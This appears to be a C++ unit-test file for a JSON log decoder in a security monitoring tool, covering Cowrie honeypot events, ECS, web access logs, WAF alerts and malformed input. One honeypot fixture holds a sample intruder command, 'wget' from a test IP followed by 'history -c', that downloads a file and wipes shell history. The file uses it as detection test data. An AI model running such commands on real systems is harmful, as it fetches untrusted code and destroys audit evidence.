#include "decode/json.h"

#include "decode/web_testing.h"

#include <doctest/doctest.h>

namespace vedette::decode {
namespace {

using testing::Sample;

struct Fixture {
  FieldTable fields;
  Field custom = *fields.intern("winlog.event_data.TargetUserName");
  JsonDecoder decoder{fields};
};

std::string cowrie(std::string_view id, std::string_view more) {
  return R"({"eventid": "cowrie.)" + std::string(id) +
         R"(", "src_ip": "203.0.113.7", "session": "0a1b", "sensor": "pot", "time)"
         R"(stamp": "2024-05-06T17:44:05.866769Z")" +
         std::string(more) + "}";
}

TEST_SUITE_BEGIN("decode/json");

TEST_CASE_FIXTURE(Fixture, "Cowrie's events have their actions") {
  struct Row {
    std::string_view id;
    Action action;
    Outcome outcome;
  };
  static constexpr Row kRows[] = {
      {"session.connect", Action::HoneypotConnected, Outcome::Unknown},
      {"session.closed", Action::HoneypotClosed, Outcome::Unknown},
      {"session.params", Action::HoneypotClient, Outcome::Unknown},
      {"session.file_download", Action::HoneypotDownload, Outcome::Unknown},
      {"session.file_download.failed", Action::HoneypotDownload, Outcome::Failure},
      {"session.file_upload", Action::HoneypotUpload, Outcome::Unknown},
      {"login.failed", Action::HoneypotLoginFailed, Outcome::Failure},
      {"login.success", Action::HoneypotLoginSucceeded, Outcome::Success},
      {"command.input", Action::HoneypotCommand, Outcome::Unknown},
      {"command.failed", Action::HoneypotCommandUnknown, Outcome::Failure},
      {"command.success", Action::HoneypotOther, Outcome::Unknown},
      {"direct-tcpip.request", Action::HoneypotForward, Outcome::Unknown},
      {"direct-tcpip.data", Action::HoneypotOther, Outcome::Unknown},
      {"client.version", Action::HoneypotClient, Outcome::Unknown},
      {"client.kex", Action::HoneypotClient, Outcome::Unknown},
      {"client.fingerprint", Action::HoneypotClient, Outcome::Unknown},
      {"log.closed", Action::HoneypotOther, Outcome::Unknown},
      {"virustotal.scanfile", Action::HoneypotOther, Outcome::Unknown},
      {"something.new", Action::HoneypotOther, Outcome::Unknown},
  };
  for (const Row& row : kRows) {
    CAPTURE(row.id);
    Sample line(cowrie(row.id, ""));
    REQUIRE(line.json(decoder));
    CHECK(line.event().action == row.action);
    CHECK(line.event().outcome == row.outcome);
    CHECK(line.event().dataset == Dataset::Cowrie);
    CHECK(line[Field::SourceIp] == "203.0.113.7");
    CHECK(line[Field::SessionId] == "0a1b");
    CHECK(line[Field::HoneypotSensor] == "pot");
    CHECK(line.time() == "2024-05-06T17:44:05.866769Z");
  }
}

TEST_CASE_FIXTURE(Fixture, "Cowrie's details are kept") {
  Sample login(cowrie("login.failed", R"(, "username": "root", "password": "a\"b\u00e9\\")"));
  REQUIRE(login.json(decoder));
  CHECK(login[Field::UserName] == "root");
  CHECK(login[Field::HoneypotPassword] == "a\"b\xC3\xA9\\");
  CHECK(login[Field::SshMethod] == "password");
  Sample key(
      cowrie("login.success", R"(, "username": "root", "key": "AAAA", "fingerprint": "aa:bb")"));
  REQUIRE(key.json(decoder));
  CHECK(key[Field::SshMethod] == "publickey");
  CHECK(key[Field::SshFingerprint] == "aa:bb");
  Sample command(cowrie("command.input", R"(, "input": "wget http://198.51.100.1/x; history -c")"));
  REQUIRE(command.json(decoder));
  CHECK(command[Field::ProcessCommandLine] == "wget http://198.51.100.1/x; history -c");
  Sample download(
      cowrie("session.file_download",
             R"(, "url": "http://198.51.100.1/x", "shasum": "3be5", "outfile": "dl/3be5")"));
  REQUIRE(download.json(decoder));
  CHECK(download[Field::UrlOriginal] == "http://198.51.100.1/x");
  CHECK(download[Field::FileHash] == "3be5");
  CHECK(download[Field::FilePath] == "dl/3be5");
  Sample upload(cowrie("session.file_upload",
                       R"(, "filename": "bot", "shasum": "3be5", "outfile": "dl/3be5")"));
  REQUIRE(upload.json(decoder));
  CHECK(upload[Field::FilePath] == "bot");
  Sample closed(cowrie("session.closed", R"(, "duration": "1.5")"));
  REQUIRE(closed.json(decoder));
  CHECK(closed[Field::EventDuration] == "1500000000");
  Sample forward(cowrie("direct-tcpip.request",
                        R"(, "dst_ip": "mail.example.com", "dst_port": 25, "src_port": 1)"));
  REQUIRE(forward.json(decoder));
  CHECK(forward[Field::DestinationAddress] == "mail.example.com");
  CHECK(forward[Field::DestinationPort] == "25");
  CHECK(forward[Field::SourcePort] == "(none)");
  Sample client(cowrie("client.kex", R"(, "hassh": "1644", "kexAlgs": ["a", "b"])"));
  REQUIRE(client.json(decoder));
  CHECK(client[Field::SshHassh] == "1644");
}

TEST_CASE_FIXTURE(Fixture, "events of the programs of the authentication log belong to it") {
  Sample line(R"({"event":{"action":"ssh_login","outcome":"failure"},)"
              R"("process":{"name":"sshd"},"source":{"ip":"203.0.113.7"}})");
  REQUIRE(line.json(decoder));
  CHECK(line.event().dataset == Dataset::Auth);
  Sample other(R"({"event":{"action":"start"},"process":{"name":"cmd.exe"}})");
  REQUIRE(other.json(decoder));
  CHECK(other.event().dataset == Dataset::Json);
}

TEST_CASE_FIXTURE(Fixture, "ECS is read nested and dotted, with its types") {
  for (const std::string_view text : {
           R"({"@timestamp":"2024-05-06T17:44:05Z","event":{"action":"failed-pas)"
           R"(sword","outcome":"failure","category":["authentication","session"])"
           R"(,"dataset":"system.auth"},"source":{"ip":"203.0.113.7","port":"22")"
           R"(},"user":{"name":"root"},"winlog":{"event_data":{"TargetUserName":)"
           R"("x"}},"unknown":{"a":[1,2]}})",
           R"({"@timestamp":"2024-05-06T17:44:05Z","event.action":"failed-passwo)"
           R"(rd","event.category":"authentication","event.outcome":"failure","e)"
           R"(vent.dataset":"system.auth","source.ip":"203.0.113.7","source.port)"
           R"(":22,"user.name":"root","winlog.event_data.TargetUserName":"x"})",
       }) {
    CAPTURE(text);
    Sample line(text);
    REQUIRE(line.json(decoder));
    CHECK(line.action() == "failed-password");
    CHECK(line.event().outcome == Outcome::Failure);
    CHECK(line.event().dataset == Dataset::Auth);
    CHECK(line.time() == "2024-05-06T17:44:05Z");
    CHECK(line[Field::SourceIp] == "203.0.113.7");
    CHECK(line[Field::SourcePort] == "22");
    CHECK(line[Field::UserName] == "root");
    CHECK(line[custom] == "x");
    CHECK(line[Field::EventCategory] == "(none)");
  }
}

TEST_CASE_FIXTURE(Fixture, "words the program does not know stay texts") {
  Sample line(R"({"event":{"action":"door-opened","category":["physical"],"dataset":"do)"
              R"(or"},"source":{"ip":"gate"}})");
  REQUIRE(line.json(decoder));
  CHECK(line.event().action == Action::None);
  CHECK(line.event().dataset == Dataset::Json);
  CHECK(line[Field::EventAction] == "door-opened");
  CHECK(line[Field::EventCategory] == "physical");
  CHECK(line[Field::EventDataset] == "door");
  CHECK(line[Field::SourceAddress] == "gate");
}

TEST_CASE_FIXTURE(Fixture, "times are texts or numbers of any unit") {
  struct Row {
    std::string_view time, expected;
  };
  static constexpr Row kRows[] = {
      {R"("@timestamp":"2024-05-06T17:44:05.5+02:00")", "2024-05-06T15:44:05.500Z"},
      {R"("timestamp":"2024-05-06T17:44:05")", "2024-05-06T17:44:05Z"},
      {R"("timestamp":"2024-05-06 17:44:05.25")", "2024-05-06T17:44:05.250Z"},
      {R"("ts":1715017445)", "2024-05-06T17:44:05Z"},
      {R"("ts":1715017445.1234567)", "2024-05-06T17:44:05.123456700Z"},
      {R"("time":1715017445123)", "2024-05-06T17:44:05.123Z"},
      {R"("time":"1715017445123456")", "2024-05-06T17:44:05.123456Z"},
      {R"("time":1715017445123456789)", "2024-05-06T17:44:05.123456789Z"},
      {R"("time_local":"06/May/2024:17:44:05 +0000")", "2024-05-06T17:44:05Z"},
      {R"("ts":1e300)", ""},
      {R"("ts":-5)", ""},
      {R"("ts":99999999999999999999)", ""},
      {R"("ts":"yesterday")", ""},
      {R"("ts":null)", ""},
  };
  for (const Row& row : kRows) {
    CAPTURE(row.time);
    Sample line("{" + std::string(row.time) + "}");
    REQUIRE(line.json(decoder));
    CHECK(line.time() == row.expected);
  }
}

TEST_CASE_FIXTURE(Fixture, "web servers' access logs are requests") {
  for (const std::string_view text : {
           R"({"level":"info","ts":1693840791.5,"msg":"handled request","request)"
           R"(":{"remote_ip":"192.0.2.9","client_ip":"203.0.113.7","proto":"HTTP)"
           R"(/1.1","method":"GET","host":"www.example.com:80","uri":"/a?b","hea)"
           R"(ders":{"Accept":["*/*"],"User-Agent":["agent"],"Referer":["http://)"
           R"(r/"]}},"user_id":"bob","duration":0.1,"size":12,"status":404})",
           R"({"ClientAddr":"203.0.113.7:39496","ClientHost":"203.0.113.7","Clie)"
           R"(ntUsername":"bob","DownstreamContentSize":12,"DownstreamStatus":40)"
           R"(4,"RequestHost":"www.example.com","RequestMethod":"GET","RequestPa)"
           R"(th":"/a?b","RequestProtocol":"HTTP/1.1","request_User-Agent":"agen)"
           R"(t","request_Referer":"http://r/","StartUTC":"2023-09-04T15:19:51.5)"
           R"(Z"})",
           R"({"time_local":"04/Sep/2023:15:19:51.5 +0000","remote_addr":"203.0.)"
           R"(113.7","remote_user":"bob","request":"GET /a?b HTTP/1.1","status":)"
           R"("404","body_bytes_sent":"12","http_referer":"http://r/","http_user)"
           R"(_agent":"agent","http_host":"www.example.com"})",
           R"({"@timestamp":"2023-09-04T15:19:51.5Z","remote_addr":"203.0.113.7")"
           R"(,"user":"bob","request_method":"GET","uri":"/a","args":"b","server)"
           R"(_protocol":"HTTP/1.1","status":404,"bytes":12,"referrer":"http://r)"
           R"(/","agent":"agent","host":"www.example.com"})",
           R"({"start_time":"2023-09-04T15:19:51.5Z",":authority":"www.example.c)"
           R"(om","downstream_remote_address":"203.0.113.7:59292","method":"GET")"
           R"(,"protocol":"HTTP/1.1","response_code":404,"bytes_sent":12,"user":)"
           R"("bob","referer":"http://r/","user-agent":"agent","x-envoy-original)"
           R"(-path":"/a?b"})",
           R"({"@timestamp":"2023-09-04T15:19:51.5Z","source":{"ip":"203.0.113.7)"
           R"("},"user":{"name":"bob"},"http":{"version":"1.1","request":{"metho)"
           R"(d":"GET","referrer":"http://r/"},"response":{"status_code":404,"bo)"
           R"(dy":{"bytes":12}}},"url":{"original":"/a?b","domain":"www.example.)"
           R"(com"},"user_agent":{"original":"agent"}})",
       }) {
    CAPTURE(text);
    Sample line(text);
    REQUIRE(line.json(decoder));
    CHECK(line.action() == "http-request");
    CHECK(line.event().outcome == Outcome::Failure);
    CHECK(line.event().dataset == Dataset::WebAccess);
    CHECK(line.time() == "2023-09-04T15:19:51.500Z");
    CHECK(line[Field::SourceIp] == "203.0.113.7");
    CHECK(line[Field::UserName] == "bob");
    CHECK(line[Field::HttpMethod] == "GET");
    CHECK(line[Field::UrlOriginal] == "/a?b");
    CHECK(line[Field::UrlQuery] == "b");
    CHECK(line[Field::HttpVersion] == "1.1");
    CHECK(line[Field::HttpStatus] == "404");
    CHECK(line[Field::HttpBodyBytes] == "12");
    CHECK(line[Field::HttpReferrer] == "http://r/");
    CHECK(line[Field::UserAgent] == "agent");
    CHECK(line[Field::UrlDomain] == "www.example.com");
  }
}

TEST_CASE_FIXTURE(Fixture, "a rule of a web application firewall that fired is a refusal") {
  Sample line(R"({"level":"warn","ts":1.5,"msg":"[client \"203.0.113.7\"] Coraza: Warni)"
              R"(ng. x [id \"942431\"] [msg \"SQL\"] [uri \"/a\"]"})");
  REQUIRE(line.json(decoder));
  CHECK(line.action() == "http-denied");
  CHECK(line[Field::SourceIp] == "203.0.113.7");
  CHECK(line[Field::EventCode] == "942431");
}

TEST_CASE_FIXTURE(Fixture, "an envelope shows the line that it wraps") {
  struct Row {
    std::string_view text, program, inner;
  };
  static constexpr Row kRows[] = {
      {R"({"log":"one \"two\"\n","stream":"stdout","time":"2024-05-06T17:44:05Z"})", "",
       "one \"two\""},
      {R"({"MESSAGE":"one two","SYSLOG_IDENTIFIER":"sshd","_PID":"7","_HOSTNAME")"
       R"(:"h","__REALTIME_TIMESTAMP":"1715017445000000"})",
       "sshd", "one two"},
      {R"({"MESSAGE":[111,110,101,32,255],"_COMM":"sshd","__REALTIME_TIMESTAMP":)"
       R"("1715017445000000"})",
       "sshd", "one \xFF"},
      {R"({"@timestamp":"2024-05-06T17:44:05Z","message":"one two","log":{"file")"
       R"(:{"path":"/var/log/auth.log"}}})",
       "", "one two"},
      {R"({"appname":"sshd","procid":"7","message":"one two","timestamp":"2024-0)"
       R"(5-06T17:44:05Z"})",
       "sshd", "one two"},
      {R"({"process":{"name":"sshd","pid":7},"message":"one two","@timestamp":"2)"
       R"(024-05-06T17:44:05Z"})",
       "sshd", "one two"},
      {R"({"message":"one two","time":"2024-05-06T17:44:05Z"})", "", ""},
      {R"({"message":"one two","program":"x","event.action":"failed-password","t)"
       R"(ime":"2024-05-06T17:44:05Z"})",
       "", ""},
  };
  for (const Row& row : kRows) {
    CAPTURE(row.text);
    Sample line(row.text);
    REQUIRE(line.json(decoder));
    CHECK(decoder.inner().program == row.program);
    CHECK(decoder.inner().text == row.inner);
    CHECK(line.time() == "2024-05-06T17:44:05Z");
  }
}

TEST_CASE_FIXTURE(Fixture, "bytes that JSON forbids do not hide a line") {
  for (const std::string_view password : {"a\xFF\xFE", "a\tb", "a\x01", "\xC0\xAF"}) {
    Sample line(cowrie("login.failed", R"(, "password": ")" + std::string(password) + "\""));
    REQUIRE(line.json(decoder));
    CHECK(line.action() == "honeypot-login-failed");
    CHECK(line[Field::SourceIp] == "203.0.113.7");
    CHECK(line[Field::HoneypotPassword] != "(none)");
  }
  Sample nginx(
      R"({"remote_addr":"203.0.113.7","request":"GET /\x22\x5C HTTP/1.1","status":"404"})");
  REQUIRE(nginx.json(decoder));
  CHECK(nginx[Field::UrlOriginal] == "/\"\\");
}

TEST_CASE_FIXTURE(Fixture, "a line that was cut at the limit keeps what is whole") {
  const std::string whole =
      cowrie("command.input", R"(, "input": "id", "message": ")") + std::string(kLineBytesMax, 'x');
  Sample line(whole.substr(0, kLineBytesMax));
  REQUIRE(line.json(decoder));
  CHECK(line.action() == "honeypot-command");
  CHECK(line[Field::ProcessCommandLine] == "id");
  Sample torn(whole.substr(0, 200));
  CHECK_FALSE(torn.json(decoder));
}

TEST_CASE_FIXTURE(Fixture, "what is no single object is left to others") {
  for (const std::string_view text :
       {"", "{", "}", "[]", "x", "{x}", "{\"a\"}", "{\"a\":}", "{\"a\":1", "{\"a\":1}}",
        "{\"a\":1} {\"b\":2}", "{\"a\":\"b}", "{a:1}", "{\"a\":1}x", "{Apache} started}"}) {
    CAPTURE(text);
    CHECK_FALSE(Sample(text).json(decoder));
  }
}

TEST_CASE_FIXTURE(Fixture, "depth, size and duplicates are bounded") {
  std::string deep;
  for (int i = 0; i < 3000; ++i) deep += R"({"a":)";
  deep += "1" + std::string(3000, '}');
  CHECK(Sample(deep).json(decoder));  // passed over, not followed
  std::string nested = R"({"source":{"ip":"203.0.113.7"},"x":)";
  for (int i = 0; i < 100; ++i) nested += R"({"a":)";
  nested += "1" + std::string(100, '}') + R"(,"user":{"name":"root"}})";
  Sample line(nested);
  REQUIRE(line.json(decoder));
  CHECK(line[Field::UserName] == "root");
  std::string wide = R"({"source.ip":"203.0.113.7")";
  for (int i = 0; i < 9000; ++i) wide += R"(,"a":1)";
  wide += R"(,"source.ip":"198.51.100.1"})";
  Sample many(wide);
  REQUIRE(many.json(decoder));
  CHECK(many[Field::SourceIp] == "203.0.113.7");  // the first counts
  Sample range(
      R"({"source.port":1e400,"http.response.status_code":99999999999999999999,"user.id":"x"})");
  REQUIRE(range.json(decoder));
  CHECK(range[Field::SourcePort] == "(none)");
  CHECK(range[Field::HttpStatus] == "(none)");
}

TEST_SUITE_END();

}  // namespace
}  // namespace vedette::decode
